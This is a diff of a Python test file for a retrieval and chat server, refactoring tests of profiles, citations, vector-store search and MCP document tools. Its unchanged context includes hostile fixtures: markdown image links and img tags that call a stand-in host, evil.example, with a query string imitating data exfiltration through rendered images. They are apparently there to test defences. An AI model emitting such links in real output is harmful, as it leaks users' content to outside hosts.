@@ -27,18 +27,18 @@ from tests.server.conftest import ANSWER, LiveServer, live_server, make_collecti
 from tests.support import until
 
 QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
+PICTURE = {"type": "image_url", "image_url": {"url": "http://x"}}
 IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example"> and [1].'
 HOSTILE = """# Vault ![h](http://evil.example/h)
 
 The vault opens at noon ![x](http://evil.example/?q=all-that-stands-here) with <img src=http://evil.example> the red key [7].
 """
 TITLE = '{"title": "Ships"}'
+ITS_ID = {"type": "eq", "key": "id"}
 PROFILES = {
-    "fleet": ProfileConfig(
-        "ships", title="The fleet", footer="auto", filter={"type": "eq", "key": "id", "value": "ships/fleet.md"}
-    ),
+    "fleet": ProfileConfig("ships", title="The fleet", footer="auto", filter={**ITS_ID, "value": "ships/fleet.md"}),
     "web": ProfileConfig("ships", footer="auto", open_webui=True),
-    "nothing": ProfileConfig("ships", filter={"type": "eq", "key": "id", "value": "other.md"}),
+    "nothing": ProfileConfig("ships", filter={**ITS_ID, "value": "other.md"}),
     "quotes": ProfileConfig("ships", chat="extractive"),
     "birds": ProfileConfig("birds"),
     "hostile": ProfileConfig("hostile", chat="extractive", footer="always"),
@@ -66,16 +66,10 @@ class ByLength:
 @pytest.fixture(scope="module")
 def live(tmp_path_factory: pytest.TempPathFactory, scripted_key: None) -> Iterator[LiveServer]:
     """A server with profiles, whose writer is at work."""
-    rerankers = {"small": ModelConfig("cross-encoder:small")}
+    models: dict[str, Any] = {"profiles": PROFILES, "rerankers": {"small": ModelConfig("cross-encoder:small")}}
     with (
         pytest.MonkeyPatch.context() as patch,
-        live_server(
-            tmp_path_factory.mktemp("profiles"),
-            script,
-            profiles=PROFILES,
-            rerankers=rerankers,
-            allow_writes_by_mcp=True,
-        ) as live,
+        live_server(tmp_path_factory.mktemp("profiles"), script, allow_writes_by_mcp=True, **models) as live,
     ):
         patch.setattr(scoring, "load_reranker", lambda spec: ByLength())
         make_collection(live.config, live.state, "hostile", {"![x](http://evil.example).md": HOSTILE})
@@ -140,10 +134,8 @@ def test_annotations_are_the_citations(live: LiveServer, clients: list[Any]) -> 
     assert message.content[place.start_index : place.end_index] == "[1]"
     cited = told["citations"][0]
     assert place.url == live.base + cited["url"] and place.title == cited["title"]
-    assert (
-        told["context"]["passages"]
-        and whole.usage.total_tokens == told["usage"]["input_tokens"] + told["usage"]["output_tokens"]
-    )
+    assert told["context"]["passages"]
+    assert whole.usage.total_tokens == told["usage"]["input_tokens"] + told["usage"]["output_tokens"]
 
 
 def test_a_stream_says_what_the_whole_says(client: Any) -> None:
@@ -254,10 +246,7 @@ def test_what_mergewise_in_the_body_says_goes_first(client: Any) -> None:
         ({"n": 2}, "n"),
         ({"tools": [], "tool_choice": "required"}, "tool_choice"),
         ({"messages": [{"role": "assistant", "content": "x"}]}, "messages"),
-        (
-            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://x"}}]}]},
-            "messages",
-        ),
+        ({"messages": [{"role": "user", "content": [PICTURE]}]}, "messages"),
     ],
 )
 def test_what_cannot_be_done_is_a_bad_request(
@@ -317,10 +306,8 @@ def test_a_vector_store_is_searched(client: Any) -> None:
     assert "built in Lyme" in best.content[0].text and list(best.attributes) == ["kind"]
     assert best.mergewise["spans"][0]["end"] > best.mergewise["spans"][0]["start"]
     assert [one.score for one in found.data] == sorted((one.score for one in found.data), reverse=True)
-    assert (
-        client.vector_stores.search("ships", query="Lyme", filters={"type": "eq", "key": "kind", "value": "x"}).data
-        == []
-    )
+    none = {"type": "eq", "key": "kind", "value": "x"}
+    assert client.vector_stores.search("ships", query="Lyme", filters=none).data == []
     few = client.vector_stores.search("ships", query="Lyme", ranking_options={"score_threshold": 0.99}).data
     assert few and all(one.score >= 0.99 for one in few)
     both = client.vector_stores.search("birds", query=["owls", "terns"], max_num_results=4).data
@@ -423,9 +410,8 @@ def test_tools_of_mcp_write_by_jobs_where_the_token_may(live: LiveServer) -> Non
         assert "there is no such document" in await refusal(client, "read_document", id="newts", collection="birds")
         removed = await told(client, "remove_document", id="newts/more.md", collection="birds")
         assert removed == "The document is removed."
-        assert "there is no such document" in await refusal(
-            client, "remove_document", id="newts/more.md", collection="birds"
-        )
+        again = await refusal(client, "remove_document", id="newts/more.md", collection="birds")
+        assert "there is no such document" in again
 
     async def only_read(client: Any) -> None:
         said = await refusal(client, "add_text", id="x.md", text="y", collection="birds")
